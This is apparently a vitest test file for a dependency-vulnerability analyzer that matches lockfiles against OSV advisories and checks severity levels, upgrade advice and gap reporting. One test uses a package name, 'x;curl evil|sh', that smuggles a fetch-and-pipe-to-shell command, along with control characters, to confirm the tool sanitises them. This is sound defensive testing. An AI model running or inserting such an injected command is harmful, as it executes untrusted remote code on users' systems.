import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { Finding, Outcome } from '../finding.ts'
import { makeTemporaryFolder } from '../testing/temporary-folder.ts'
import { indexPath } from './advisories/paths.ts'
import { syncAdvisories } from './advisories/sync.ts'
import { createDependenciesAnalyzer } from './analyzer.ts'
import { bucketFiles, type OsvRecord, osvRecord, writeBucket } from './testing/advisories.ts'
import { textTree } from './testing/text-tree.ts'

let temporary: ReturnType<typeof makeTemporaryFolder>
const advisories = () => join(temporary.path, 'index')

beforeEach(() => {
  temporary = makeTemporaryFolder()
})
afterEach(() => temporary.remove())

async function index(ecosystems: Readonly<Record<string, readonly OsvRecord[]>>) {
  const source = join(temporary.path, 'mirror')
  writeBucket(source, bucketFiles(ecosystems))
  await syncAdvisories({
    source,
    folder: advisories(),
    signal: new AbortController().signal,
    fetch: () => Promise.reject(new Error('not asked')),
  })
}

function analyze(files: Readonly<Record<string, string>>): Promise<Outcome<Finding>> {
  return createDependenciesAnalyzer({ advisories: advisories() }).analyze(textTree(files), new AbortController().signal)
}

const LOCK = `{
  "lockfileVersion": 3,
  "packages": {
    "": { "dependencies": { "web": "^1.0.0" }, "devDependencies": { "check": "^1.0.0" } },
    "node_modules/check": { "version": "1.0.0", "dev": true },
    "node_modules/deep": { "version": "1.0.0" },
    "node_modules/web": { "version": "1.0.0", "dependencies": { "deep": "RANGE" } }
  }
}`
const CRITICAL = { severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' }] }
const STANDARD_LIBRARY = [
  {
    package: { ecosystem: 'Go', name: 'stdlib' },
    ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '1.23.0-0' }] }],
  },
]
const rated = (word: string) => ({ database_specific: { severity: word } })

describe('a finding', () => {
  it('says what, where, how bad, by which way, and what to do', async () => {
    await index({
      npm: [
        osvRecord('GHSA-aaaa-aaaa-aaaa', 'npm', 'web', {
          ...CRITICAL,
          aliases: ['CVE-2024-1'],
          summary: 'Code runs.',
          details: 'When called with a text, code runs.',
          database_specific: { severity: 'CRITICAL', cwe_ids: ['CWE-94', 'CWE-20', 'NONSENSE'] },
        }),
        osvRecord('GHSA-bbbb-bbbb-bbbb', 'npm', 'deep', rated('LOW')),
      ],
    })
    const { kind, found } = await analyze({ 'package-lock.json': LOCK.replace('RANGE', '1.0.0') })
    expect(kind).toBe('checked')
    expect(found).toMatchObject([
      {
        ruleId: 'dependency/GHSA-bbbb-bbbb-bbbb',
        level: 'note',
        line: 6,
        column: 5,
        endColumn: 24,
        securitySeverity: 2,
      },
      {
        ruleId: 'dependency/GHSA-aaaa-aaaa-aaaa',
        level: 'error',
        file: 'package-lock.json',
        line: 7,
        message: 'web 1.0.0 has a known vulnerability: Code runs (GHSA-aaaa-aaaa-aaaa, CVE-2024-1)',
        suggestion: 'Upgrade web from 1.0.0 to 2.0.0 or later: `npm install web@^2.0.0`.',
        cwe: [20, 94],
        securitySeverity: 9.8,
        evidence: 'npm web 1.0.0 GHSA-aaaa-aaaa-aaaa',
      },
    ])
    expect(found[0]?.description).toContain('It comes with: web 1.0.0 > deep 1.0.0.')
    expect(found[0]?.suggestion).toContain(
      'web 1.0.0 asks for deep 1.0.0. Upgrade the direct dependency web (now 1.0.0)',
    )
    expect(found[0]?.suggestion).toContain('`overrides` in package.json')
    expect(found[1]?.description).toContain('When called with a text, code runs.')
    expect(found[1]?.description).toContain('web is a direct dependency of package-lock.json. Fixed in 2.0.0.')
  })

  it('needs no direct dependency to change where every range admits the fixed version', async () => {
    await index({ npm: [osvRecord('GHSA-b', 'npm', 'deep')] })
    const { found } = await analyze({ 'package-lock.json': LOCK.replace('RANGE', '>=1') })
    expect(found[0]?.suggestion).toBe(
      'Upgrade deep to 2.0.0 or later in the lockfile (`npm update deep`). All that ask for it admit that version, so no direct dependency has to change.',
    )
  })

  it('says which one upgrade mends several', async () => {
    const until = (fixed: string) => ({
      affected: [
        {
          package: { ecosystem: 'npm', name: 'web' },
          ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed }] }],
        },
      ],
    })
    const ofWeb = (id: string, fixed: string) => osvRecord(id, 'npm', 'web', until(fixed))
    await index({ npm: [ofWeb('GHSA-a', '1.1.0'), ofWeb('GHSA-b', '1.3.0'), ofWeb('GHSA-c', '1.2.0')] })
    const { found } = await analyze({ 'package-lock.json': LOCK })
    expect(found.map(({ suggestion }) => suggestion.split('. ').at(-1))).toEqual([
      '1.3.0 mends the other 2 vulnerabilities of this version, too.',
      'That mends the other 2 vulnerabilities of this version, too.',
      '1.3.0 mends the other 2 vulnerabilities of this version, too.',
    ])
  })

  it.each([
    ['critical', 'CRITICAL', 'error', 'warning'],
    ['high', 'HIGH', 'error', 'warning'],
    ['moderate', 'MODERATE', 'warning', 'note'],
    ['low', 'LOW', 'note', 'note'],
    ['unknown', '', 'warning', 'note'],
  ])('is, when %s, of the right level, and one lower for development', async (_, word, level, devLevel) => {
    await index({
      npm: [osvRecord('GHSA-a', 'npm', 'web', rated(word)), osvRecord('GHSA-c', 'npm', 'check', rated(word))],
    })
    const { found } = await analyze({ 'package-lock.json': LOCK })
    expect(found.map((one) => [one.evidence.split(' ')[1], one.level])).toEqual([
      ['check', devLevel],
      ['web', level],
    ])
  })

  it('is a note where go.mod names the language alone, and any later Go may build it', async () => {
    await index({ Go: [osvRecord('GO-2024-1', 'Go', 'stdlib', { ...CRITICAL, affected: STANDARD_LIBRARY })] })
    const levels = async (directives: string) =>
      (await analyze({ 'go.mod': `module a\n\n${directives}\n` })).found.map(({ level }) => level)
    expect(await levels('go 1.20')).toEqual(['note'])
    expect(await levels('go 1.22.3')).toEqual(['error'])
    expect(await levels('go 1.20\ntoolchain go1.22.3')).toEqual(['error'])
    expect(await levels('go 1.20\ntoolchain go1.23.0')).toEqual([])
  })

  it('holds a tag of an action that moves against the last version of its line', async () => {
    const until = (fixed: string) => ({
      affected: [
        {
          package: { ecosystem: 'GitHub Actions', name: 'acme/setup' },
          ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed }] }],
        },
      ],
    })
    await index({ 'GitHub Actions': [osvRecord('GHSA-a', 'GitHub Actions', 'acme/setup', until('4.1.2'))] })
    const found = async (ref: string) =>
      (await analyze({ '.github/workflows/ci.yml': `jobs:\n  a:\n    steps:\n      - uses: Acme/Setup@${ref}\n` }))
        .found.length
    expect(await Promise.all(['v3', 'v4.0', 'v4.1.1', '4.1.1'].map(found))).toEqual([1, 1, 1, 1])
    expect(await Promise.all(['v4', 'v4.1', 'v4.1.2', 'v5', 'main'].map(found))).toEqual([0, 0, 0, 0, 0])
    const commit = '4'.repeat(40)
    expect(await Promise.all([commit, `${commit} # v4.1.1`, `${commit} # v4.1.2`].map(found))).toEqual([0, 1, 0])
  })

  it('of a malicious package is always an error', async () => {
    await index({
      npm: [
        osvRecord('MAL-2024-1', 'npm', 'check', {
          affected: [{ package: { ecosystem: 'npm', name: 'check' }, versions: ['1.0.0'] }],
        }),
      ],
    })
    const { found } = await analyze({ 'package-lock.json': LOCK })
    expect(found).toMatchObject([
      { level: 'error', securitySeverity: 10, message: expect.stringMatching(/^check 1\.0\.0 is a malicious package/) },
    ])
    expect(found[0]?.suggestion).toMatch(/^Remove check 1\.0\.0/)
  })

  it('of a crate that is only unmaintained is a note', async () => {
    const affected = [
      {
        package: { ecosystem: 'crates.io', name: 'web' },
        database_specific: { informational: 'unmaintained' },
        ranges: [{ type: 'SEMVER', events: [{ introduced: '0.0.0-0' }] }],
      },
    ]
    await index({ 'crates.io': [osvRecord('RUSTSEC-2024-1', 'crates.io', 'web', { affected })] })
    const { found } = await analyze({
      'Cargo.lock': '[[package]]\nname = "web"\nversion = "1.0.0"\nsource = "registry+x"\n',
    })
    expect(found).toMatchObject([
      { level: 'note', securitySeverity: 0, message: expect.stringContaining('is listed as unmaintained') },
    ])
  })

  it('carries no control characters, and no command with a name that a shell would read', async () => {
    const name = 'x;curl evil|sh'
    await index({ npm: [osvRecord('GHSA-a', 'npm', name, { summary: 'a\u202eb\u0000c\n\n# d' })] })
    const lock = JSON.stringify({
      lockfileVersion: 3,
      packages: { '': { dependencies: { [name]: '*' } }, [`node_modules/${name}`]: { version: '1.0.0' } },
    })
    const { found } = await analyze({ 'package-lock.json': lock })
    expect(found).toHaveLength(1)
    const [finding] = found
    expect(`${finding?.message}${finding?.description}`).not.toMatch(/[\p{Cc}\p{Cf}]/u)
    expect(finding?.suggestion).not.toContain('`')
  })
})

describe('what could not be checked', () => {
  it('is every ecosystem that was never synchronised', async () => {
    const files = { 'package-lock.json': LOCK, 'go.mod': 'module a\n\ngo 1.22.0\n' }
    expect(await analyze(files)).toMatchObject({
      kind: 'not-checked',
      found: [],
      gaps: [{ name: 'advisories-never-synchronised' }, { name: 'advisories-never-synchronised' }],
    })
    await index({ npm: [osvRecord('GHSA-a', 'npm', 'web')] })
    const outcome = await analyze(files)
    expect(outcome.found).toHaveLength(1)
    expect(outcome).toMatchObject({
      gaps: [
        {
          name: 'advisories-never-synchronised',
          reason: expect.stringContaining('Go'),
          suggestion: expect.stringContaining('picket advisories sync'),
        },
      ],
    })
  })

  it('is what OSV has no advisories of, and not what is only listed', async () => {
    const files = {
      'Podfile.lock': 'PODS:\n  - Web (1.0.0)\n\nDEPENDENCIES:\n  - Web\n\nCOCOAPODS: 1.15.2\n',
      Dockerfile: 'FROM alpine:3.19\n',
    }
    expect(await analyze(files)).toMatchObject({
      gaps: [{ name: 'no-advisories', reason: expect.stringContaining('CocoaPods') }],
    })
  })

  it('is an index that cannot be read', async () => {
    await index({ npm: [osvRecord('GHSA-a', 'npm', 'web')] })
    mkdirSync(advisories(), { recursive: true })
    writeFileSync(indexPath(advisories(), 'npm'), 'nonsense')
    expect(await analyze({ 'package-lock.json': LOCK })).toMatchObject({
      kind: 'not-checked',
      found: [],
      gaps: [{ name: 'advisories-unreadable' }],
    })
  })

  it('is not claimed of a tree without dependencies', async () => {
    expect(await analyze({ 'README.md': 'nothing' })).toEqual({ kind: 'checked', found: [] })
  })
})
